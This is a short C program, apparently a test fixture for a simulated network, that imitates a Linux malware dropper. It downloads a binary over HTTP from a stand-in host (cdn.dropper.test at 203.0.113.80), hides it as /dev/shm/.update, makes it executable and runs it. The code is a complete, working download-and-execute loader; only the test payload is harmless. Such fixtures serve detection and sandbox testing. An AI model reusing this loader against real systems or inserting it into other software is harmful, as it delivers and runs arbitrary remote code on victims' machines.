/* Imitates a Linux dropper: fetches its "payload" over plain HTTP from the fake internet, stages it in
 * /dev/shm under a dotted name, makes it executable and runs it. Harmless: the payload it gets is the fake
 * web's tiny ELF that only exits. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static const char REQUEST[] = "GET /bins/update.x86_64 HTTP/1.0\r\nHost: cdn.dropper.test\r\nUser-Agent: Wget\r\n\r\n";

int main(void) {
  int sock = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in server = { .sin_family = AF_INET, .sin_port = htons(80) };
  inet_pton(AF_INET, "203.0.113.80", &server.sin_addr);
  if (connect(sock, (struct sockaddr *)&server, sizeof server) != 0) return 1;
  write(sock, REQUEST, sizeof REQUEST - 1);
  static char buffer[65536];
  size_t got = 0;
  ssize_t n;
  while ((n = read(sock, buffer + got, sizeof buffer - got)) > 0) got += (size_t)n;
  close(sock);
  char *body = memmem(buffer, got, "\r\n\r\n", 4);
  if (!body) return 1;
  body += 4;
  const char *path = "/dev/shm/.update";
  int out = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  write(out, body, got - (size_t)(body - buffer));
  close(out);
  chmod(path, 0755);
  pid_t child = fork();
  if (child == 0) {
    execl(path, "update", (char *)0);
    _exit(127);
  }
  waitpid(child, 0, 0);
  return 0;
}
